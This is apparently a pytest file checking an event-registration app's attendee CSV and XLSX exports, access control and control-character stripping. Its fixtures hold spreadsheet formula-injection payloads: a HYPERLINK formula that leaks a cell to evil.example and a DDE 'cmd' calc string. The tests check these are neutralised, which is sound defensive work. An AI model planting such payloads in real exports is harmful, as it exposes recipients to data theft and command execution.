"""Attendee exports: what the rows hold, and that no cell runs as a spreadsheet formula."""

import csv
import io
import uuid

from openpyxl import load_workbook

from eventreg.accounts.service import create_api_token
from eventreg.checkin import scanning as checkin
from eventreg.checkin.doors import create_door_access
from eventreg.database import unit_of_work
from eventreg.exports.views import SIGN_IN_SHEET_ROWS
from eventreg.registrations.service import AttendeeRequest, cancel_attendees
from tests.conftest import AuthActions
from tests.doors import app_door

COLOUR = {"label": {"en": "Favourite colour"}, "kind": "single_choice", "asked_per": "attendee",
          "option_labels": [{"en": "Blue"}, {"en": "Yellow"}]}
NOTE = {"label": {"en": "Anything we should know?"}, "kind": "text"}
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def read_csv(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(body: bytes):
    return load_workbook(io.BytesIO(body)).active


def registered_family(db_session, make_event, make_registration):
    event = make_event(activities=[{"title": {"en": "Doll-making"}, "capacity": 10}],
                       questions=[COLOUR, NOTE])
    dolls = event.activities[0]
    colour, note = event.questions
    blue = colour.options[0]["value"]
    family = make_registration(event, [
        AttendeeRequest(name=ATTACK, age_group="adult", answers={colour.id: blue}),
        AttendeeRequest(name="Mykola Kovalenko", age_group="child", activity_ids=[dolls.id]),
        AttendeeRequest(name="Daryna Kovalenko", age_group="child"),
    ], contact_name="@SUM(1+1)", phone="+359 88 123 4567",
        answers={note.id: "+cmd|' /C calc'!A0"})
    with unit_of_work(db_session):
        door, _ = create_door_access(db_session, event, "Main gate")
    with unit_of_work(db_session):
        checkin.check_in(db_session, app_door(door), checkin.CheckinRequest(
            client_id=uuid.uuid4().hex, attendee_id=family.attendees[1].id))
    with unit_of_work(db_session):
        cancel_attendees(db_session, family, [family.attendees[2].id])
    return event


def test_csv_neutralises_formulas_and_keeps_phone_numbers(client, db_session, organiser,
                                                          make_event, make_registration, auth):
    event = registered_family(db_session, make_event, make_registration)
    auth.login(organiser)
    response = client.get(f"/manage/events/{event.slug}/attendees.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    assert "no-store" in response.headers["Cache-Control"]
    header, *rows = read_csv(response.data)
    by_column = [dict(zip(header, row, strict=True)) for row in rows]
    assert by_column[0]["Name"] == "'" + ATTACK
    assert by_column[0]["Contact name"] == "'@SUM(1+1)"
    assert by_column[0]["Anything we should know?"] == "'+cmd|' /C calc'!A0"
    assert by_column[0]["Phone"] == "+359881234567"
    assert not any(cell.startswith(("=", "+", "-", "@")) and cell != "+359881234567"
                   for row in rows for cell in row)


def test_csv_rows_hold_choices_answers_check_in_and_status(client, db_session, organiser,
                                                           make_event, make_registration, auth):
    event = registered_family(db_session, make_event, make_registration)
    auth.login(organiser)
    header, *rows = read_csv(client.get(f"/manage/events/{event.slug}/attendees.csv").data)
    olena, mykola, daryna = [dict(zip(header, row, strict=True)) for row in rows]
    assert olena["Favourite colour"] == "Blue"
    assert mykola["Activities"] == "Doll-making"
    assert mykola["Checked in at door"] == "Main gate"
    assert mykola["Checked in at"] != "" and olena["Checked in at"] == ""
    assert (olena["Status"], daryna["Status"]) == ("valid", "cancelled")
    assert mykola["Age group"] == "child"


def test_xlsx_cells_are_text_never_formulas(client, db_session, organiser, make_event,
                                            make_registration, auth):
    event = registered_family(db_session, make_event, make_registration)
    auth.login(organiser)
    response = client.get(f"/manage/events/{event.slug}/attendees.xlsx")
    assert response.status_code == 200
    sheet = read_xlsx(response.data)
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("Name") + 1)
    assert name.value == "'" + ATTACK and name.data_type == "s"
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas == []
    assert sheet.cell(row=3, column=header.index("Checked in at") + 1).is_date


def test_control_characters_stored_by_a_service_call_are_left_out_of_the_downloads(
        client, organiser, make_event, make_registration, auth):
    event = make_event(title={"en": "Fair\x01"})
    make_registration(event, ["Olena\x0bKovalenko"])
    auth.login(organiser)
    response = client.get(f"/manage/events/{event.slug}/attendees.xlsx")
    assert response.status_code == 200
    sheet = read_xlsx(response.data)
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(row=2, column=header.index("Name") + 1).value == "OlenaKovalenko"
    assert sheet.title == "Fair"
    csv_name = read_csv(client.get(f"/manage/events/{event.slug}/attendees.csv").data)[1]
    assert "OlenaKovalenko" in csv_name


def test_api_exports_need_an_organiser_of_the_events_organisation(
    app, client, db_session, organiser, make_organiser, make_event, make_registration
):
    event = registered_family(db_session, make_event, make_registration)
    with unit_of_work(db_session):
        _, token = create_api_token(db_session, organiser, "exports")
    with unit_of_work(db_session):
        _, stranger = create_api_token(db_session, make_organiser("Other office"), "x")
    with app.app_context():  # a request of its own, as in a server: its own language
        header, *rows = read_csv(client.get(
            f"/api/v1/events/{event.slug}/attendees.csv",
            headers={"Authorization": f"Bearer {token}", "Accept-Language": "bg"}).data)
    assert len(rows) == 3
    assert header[7] == "Име"  # headers in the asker's language
    for suffix in ("csv", "xlsx"):
        url = f"/api/v1/events/{event.slug}/attendees.{suffix}"
        assert client.get(url).status_code == 401
        assert client.get(url, headers={"Authorization": f"Bearer {stranger}"}).status_code == 404
        response = client.get(url, headers={"Authorization": f"Bearer {token}"})
        assert response.status_code == 200


def test_other_organisations_cannot_download_attendees(client, db_session, make_organiser,
                                                       make_event, make_registration):
    event = registered_family(db_session, make_event, make_registration)
    AuthActions(client).login(make_organiser("Other office"))
    assert client.get(f"/manage/events/{event.slug}/attendees.csv").status_code == 404
    assert client.get(f"/manage/events/{event.slug}/attendees.xlsx").status_code == 404


def test_door_list_prints_valid_tickets_by_party(client, db_session, organiser, make_event,
                                                 make_registration, auth):
    event = registered_family(db_session, make_event, make_registration)
    make_registration(event, ["Ivan Petrov"], contact_name="Ivan Petrov")
    auth.login(organiser)
    page = client.get(f"/manage/events/{event.slug}/door-list").get_data(as_text=True)
    assert page.count('class="party"') == 2
    assert "Mykola Kovalenko" in page and "Ivan Petrov" in page
    assert "Daryna Kovalenko" not in page  # cancelled
    assert "People: 3" in page


def test_sign_in_sheet_has_empty_rows_to_fill_in(client, organiser, make_event, auth):
    event = make_event()
    auth.login(organiser)
    page = client.get(f"/manage/events/{event.slug}/sign-in-sheet").get_data(as_text=True)
    assert page.count('<td class="number">') == SIGN_IN_SHEET_ROWS


def test_the_age_column_is_the_one_the_event_asks(client, organiser, make_event,
                                                 make_registration, auth):
    event = make_event(age_mode="birth_year")
    make_registration(event, [AttendeeRequest(name="Mykola", birth_year=2015)])
    auth.login(organiser)
    header, row = read_csv(client.get(f"/manage/events/{event.slug}/attendees.csv").data)
    person = dict(zip(header, row, strict=True))
    assert person["Year of birth"] == "2015" and "Age group" not in person


def test_a_name_stored_with_control_characters_never_breaks_the_downloads(
        client, db_session, organiser, make_event, make_registration, auth):
    """Rows stored before control characters were refused (or written by other means)."""
    from sqlalchemy import update

    from eventreg.registrations.models import Attendee, Registration

    event = make_event()
    other = make_event(slug="other-event")
    make_registration(other, ["Someone Else"])
    family = make_registration(event, ["Eve Adams", "Mark Adams"], contact_name="Ann")
    db_session.execute(update(Attendee).where(Attendee.id == family.attendees[0].id)
                       .values(name="Eve\x1b\x0b Adams"))
    db_session.execute(update(Registration).where(Registration.id == family.id)
                       .values(contact_name="=Ann\x07"))
    db_session.commit()
    with unit_of_work(db_session):
        cancel_attendees(db_session, family, [family.attendees[0].id])
    with unit_of_work(db_session):
        _, token = create_api_token(db_session, organiser, "exports")
    auth.login(organiser)
    for response in (client.get(f"/manage/events/{event.slug}/attendees.xlsx"),
                     client.get(f"/api/v1/events/{event.slug}/attendees.xlsx",
                                headers={"Authorization": f"Bearer {token}"})):
        assert response.status_code == 200
        rows = list(read_xlsx(response.data).values)
        names = [row[rows[0].index("Name")] for row in rows[1:]]
        contacts = {row[rows[0].index("Contact name")] for row in rows[1:]}
        assert names == ["Eve Adams", "Mark Adams"]
        assert contacts == {"'=Ann"}
    header, *rows = read_csv(client.get(f"/manage/events/{event.slug}/attendees.csv").data)
    assert [row[header.index("Name")] for row in rows] == ["Eve Adams", "Mark Adams"]
